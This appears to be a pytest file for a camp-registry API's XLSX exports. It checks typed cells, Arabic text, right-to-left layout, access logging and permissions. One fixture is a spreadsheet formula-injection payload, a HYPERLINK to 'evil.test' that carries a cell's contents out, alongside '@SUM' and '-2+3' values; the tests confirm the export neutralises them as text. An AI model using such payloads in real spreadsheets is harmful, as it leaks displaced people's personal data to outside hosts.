"""XLSX exports: rosters and the HXL tables as spreadsheets with typed cells.

Each workbook is opened with openpyxl, as a partner's script would: the headers are the
CSV's, the HXL hashtags are row 2, numbers are numbers and dates are dates (shown as ISO
8601), Arabic stays as typed, and no typed-in text is ever a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner

from campledger.api.cli.main import app as cli
from campledger.api.services import xlsx
from campledger.api.services.rosters import ROSTER_CSV_COLUMNS
from campledger.domain.model.values import PERSONAL_FIELDS
from tests.api.conftest import PREFIX, SETUP_ACTOR, Api, assert_problem

runner = CliRunner()
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_NAME = '=HYPERLINK("http://evil.test/?d="&B2,"open")'
BORN = date(1990, 4, 1)


def sheet(content: bytes) -> Worksheet:
    worksheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert isinstance(worksheet, Worksheet)
    return worksheet


def values(worksheet: Worksheet) -> list[list[Any]]:
    return [list(row) for row in worksheet.iter_rows(values_only=True)]


def records(worksheet: Worksheet) -> list[dict[str, Any]]:
    header, *rows = values(worksheet)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture(scope="module")
def world(api: Api) -> dict[str, Any]:
    """A camp with people in both scripts, one born on a known day, one named as a formula."""
    code = api.fresh_code("XL")
    api.registry.open_site(
        code=code, name="مخيم الأمل", kind="camp", capacity=50, latitude=12.5,
        longitude=-3.25, admin1_pcode="SD01", actor=SETUP_ACTOR,
    )  # fmt: skip
    people = [
        api.person(code, given_name="فاطمة", family_name="آدم", date_of_birth=BORN),
        api.person(code, given_name=FORMULA_NAME, family_name="@SUM(1+1)", household_id="-2+3"),
        *api.register(code, count=2, specific_needs=("WR", "SM-MN")),
    ]
    api.wait()
    return {"code": code, "people": sorted(str(p) for p in people)}


def test_a_roster_workbook_holds_the_json_rosters_people_with_typed_cells(
    api: Api, world: dict[str, Any]
) -> None:
    code, auth = world["code"], api.auth("site_manager")
    json_roster = api.client.get(f"{PREFIX}/sites/{code}/roster", headers=auth).json()["items"]
    _, trail_before = api.writes()

    response = api.client.get(f"{PREFIX}/sites/{code}/roster.xlsx", headers=auth)

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"] == f'attachment; filename="roster-{code}.xlsx"'
    worksheet = sheet(response.content)
    assert values(worksheet)[0] == [*ROSTER_CSV_COLUMNS, *PERSONAL_FIELDS]  # the CSV's
    rows = records(worksheet)
    assert sorted(r["person_id"] for r in rows) == world["people"]
    assert {r["person_id"] for r in rows} == {r["person_id"] for r in json_roster}
    [fatima] = [r for r in rows if r["given_name"] == "فاطمة"]  # Arabic intact
    assert fatima["family_name"] == "آدم"
    # Typed: ages are numbers, a date of birth a date, a registration a date and time.
    assert isinstance(fatima["age"], int) and fatima["age"] >= 35
    assert fatima["date_of_birth"] == datetime(1990, 4, 1)
    assert isinstance(fatima["registered_at"], datetime)
    by_header = {cell.value: cell.column for cell in worksheet[1]}
    born_cell = worksheet.cell(2 + rows.index(fatima), by_header["date_of_birth"])
    assert born_cell.number_format == "yyyy-mm-dd"
    # Codes as the CSV writes them; none, an empty cell.
    assert {r["specific_needs"] for r in rows} == {"SM-MN;WR", None}
    # Each person shown with names goes on the access trail, as the CSV roster does.
    assert api.writes()[1] == trail_before + len(world["people"])
    trail = api.conn.execute(
        "SELECT purpose FROM access_trail WHERE person_id = %s ORDER BY id DESC LIMIT 1",
        (fatima["person_id"],),
    ).fetchall()
    assert trail == [("GET /sites/{code}/roster.xlsx",)]


def test_a_roster_workbook_pages_and_filters_as_the_roster_does(
    api: Api, world: dict[str, Any]
) -> None:
    code, auth = world["code"], api.auth("admin")
    first = api.client.get(f"{PREFIX}/sites/{code}/roster.xlsx?limit=3", headers=auth)
    assert len(records(sheet(first.content))) == 3
    cursor = first.headers["X-Next-Cursor"]
    rest = api.client.get(f"{PREFIX}/sites/{code}/roster.xlsx?cursor={cursor}", headers=auth)
    assert "X-Next-Cursor" not in rest.headers
    seen = [r["person_id"] for r in records(sheet(first.content)) + records(sheet(rest.content))]
    assert sorted(seen) == world["people"]
    needs = api.client.get(
        f"{PREFIX}/sites/{code}/roster.xlsx", params={"specific_need": "WR"}, headers=auth
    )
    assert len(records(sheet(needs.content))) == 2


def test_a_roster_workbook_reads_right_to_left_for_an_arabic_reader(
    api: Api, world: dict[str, Any]
) -> None:
    url = f"{PREFIX}/sites/{world['code']}/roster.xlsx"
    arabic = api.client.get(url, params={"lang": "ar"}, headers=api.auth("admin"))
    english = api.client.get(url, headers=api.auth("admin"))
    assert sheet(arabic.content).sheet_view.rightToLeft is True
    assert not sheet(english.content).sheet_view.rightToLeft


def test_a_roster_workbook_has_the_rosters_rights_and_scope(
    api: Api, world: dict[str, Any]
) -> None:
    code = world["code"]
    before = api.writes()
    elsewhere = api.client.get(
        f"{PREFIX}/sites/{code}/roster.xlsx", headers=api.auth("registrar", sites=["OTHER"])
    )
    assert_problem(elsewhere, 403, "out-of-scope")
    officer = api.client.get(
        f"{PREFIX}/sites/{code}/roster.xlsx", headers=api.auth("transfer_officer")
    )
    assert_problem(officer, 403, "forbidden")
    unknown = api.client.get(f"{PREFIX}/sites/NOPE-1/roster.xlsx", headers=api.auth("admin"))
    assert_problem(unknown, 404, "site-not-found")
    assert api.writes() == before  # nobody's name was shown, so nobody is on the trail


def test_typed_in_formulas_are_text_cells_with_a_quote_prefix(
    api: Api, world: dict[str, Any]
) -> None:
    url = f"{PREFIX}/sites/{world['code']}/roster.xlsx"
    worksheet = sheet(api.client.get(url, headers=api.auth("admin")).content)
    header = [c.value for c in worksheet[1]]
    row = next(
        r
        for r in worksheet.iter_rows(min_row=2)
        if r[header.index("given_name")].value == FORMULA_NAME
    )
    for column, typed in (
        ("given_name", FORMULA_NAME),
        ("family_name", "@SUM(1+1)"),
        ("household_id", "-2+3"),
    ):
        cell = row[header.index(column)]
        assert (cell.value, cell.data_type) == (typed, "s")  # shown as typed, a string
        assert cell.quotePrefix  # kept text even when someone edits the cell


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def site_row(rows: list[list[Any]], code: str) -> list[Any]:
    """The row of this site, found by its ``#loc+code`` column (row 2 is the hashtags)."""
    at = rows[1].index("#loc+code")
    [found] = [r for r in rows[2:] if r[at] == code]
    return found


def assert_same_table(sheet_rows: list[list[Any]], csv_text: str) -> None:
    """The workbook holds the CSV's table: the same rows 1 and 2, the same cells, typed."""
    expected = csv_rows(csv_text)
    assert sheet_rows[:2] == expected[:2]
    assert len(sheet_rows) == len(expected)
    for got, want in zip(sheet_rows[2:], expected[2:], strict=True):
        for value, text in zip(got, want, strict=True):
            if value is None:
                assert text == ""
            elif isinstance(value, datetime):
                assert value.date().isoformat() == text  # a date, not a text
            elif isinstance(value, int | float):
                assert float(text) == value  # a number, not a text
            else:  # text, as typed: the CSV's leading quote is its own defence
                assert text in (value, "'" + value)


def test_the_hxl_workbooks_hold_the_csv_tables_with_hashtags_in_row_two_and_typed_cells(
    api: Api, world: dict[str, Any]
) -> None:
    auth = api.auth("site_manager")
    response = api.client.get(f"{PREFIX}/sites/occupancy.hxl.xlsx", headers=auth)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert 'filename="occupancy.hxl.xlsx"' in response.headers["content-disposition"]
    rows = values(sheet(response.content))
    assert_same_table(rows, api.client.get(f"{PREFIX}/sites/occupancy.hxl.csv", headers=auth).text)
    camp = dict(zip(rows[1], site_row(rows, world["code"]), strict=True))
    assert camp["#loc+name"] == "مخيم الأمل"
    assert camp["#geo+lon"] == -3.25
    assert 50 in camp.values() and 4 in camp.values()  # capacity and head count, numbers
    dates = [v for tag, v in camp.items() if tag.startswith("#date")]
    assert dates == [datetime.combine(datetime.now(UTC).date(), datetime.min.time())]

    today = datetime.now(UTC).date()
    params = {"start": str(today), "end": str(today)}
    flows = api.client.get(f"{PREFIX}/sites/flows.hxl.xlsx", params=params, headers=auth)
    assert flows.status_code == 200, flows.text
    assert f'filename="flows-{today}-{today}.hxl.xlsx"' in flows.headers["content-disposition"]
    flow_rows = values(sheet(flows.content))
    flows_csv = api.client.get(f"{PREFIX}/sites/flows.hxl.csv", params=params, headers=auth)
    assert_same_table(flow_rows, flows_csv.text)
    day = site_row(flow_rows, world["code"])
    assert 4 in day  # the four arrivals, a number
    assert any(isinstance(v, datetime) for v in day)


def test_the_hxl_workbooks_keep_the_callers_scope(api: Api, world: dict[str, Any]) -> None:
    other = api.open_site()
    api.wait()
    auth = api.auth("registrar", sites=[other])
    rows = values(sheet(api.client.get(f"{PREFIX}/sites/occupancy.hxl.xlsx", headers=auth).content))
    at = rows[1].index("#loc+code")
    assert [r[at] for r in rows[2:]] == [other]
    refused = api.client.get(
        f"{PREFIX}/sites/flows.hxl.xlsx", params={"start": "x", "end": "y"}, headers=auth
    )
    assert refused.status_code == 422
    assert api.client.get(f"{PREFIX}/sites/occupancy.hxl.xlsx").status_code == 401


def test_each_value_gets_the_cell_type_its_python_type_says() -> None:
    content = xlsx.workbook(
        "t",
        ["a", "b", "c", "d", "e", "f", "g", "h", "i"],
        [[3, -0.5, Decimal("2.5"), True, float("inf"), None, "-12", ["WR", "SM"], "نص"]],
        hashtags=["#a", "#b", "#c", "#d", "#e", "#f", "#g", "#h", "#i"],
    )
    worksheet = sheet(content)
    assert values(worksheet)[2] == [3, -0.5, 2.5, "True", "inf", None, "-12", "WR;SM", "نص"]
    assert worksheet.freeze_panes == "A3"  # headers and hashtags stay in view


@pytest.fixture
def cli_database(
    api: Api, api_database_url: str, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    monkeypatch.setenv("CAMPLEDGER_DATABASE_URL", api_database_url)
    yield


@pytest.mark.usefixtures("cli_database")
def test_the_export_commands_write_workbooks(world: dict[str, Any], tmp_path: Path) -> None:
    book = tmp_path / "occupancy.xlsx"
    done = runner.invoke(cli, ["export", "occupancy", "--hxl", "--xlsx", "-o", str(book)])
    assert done.exit_code == 0, done.output
    rows = values(sheet(book.read_bytes()))
    as_csv = runner.invoke(cli, ["export", "occupancy", "--hxl"])
    assert rows[:2] == csv_rows(as_csv.stdout)[:2]
    assert site_row(rows, world["code"])

    today = str(datetime.now(UTC).date())
    flows = tmp_path / "flows.xlsx"
    args = ["export", "flows", "--start", today, "--end", today]
    assert runner.invoke(cli, [*args, "--xlsx", "-o", str(flows)]).exit_code == 0
    without_hxl = csv_rows(runner.invoke(cli, args).stdout)
    assert values(sheet(flows.read_bytes()))[:1] == without_hxl[:1]  # no hashtags asked

    to_terminal = runner.invoke(cli, ["export", "occupancy", "--xlsx"])
    assert to_terminal.exit_code == 2
    assert "--output" in to_terminal.output
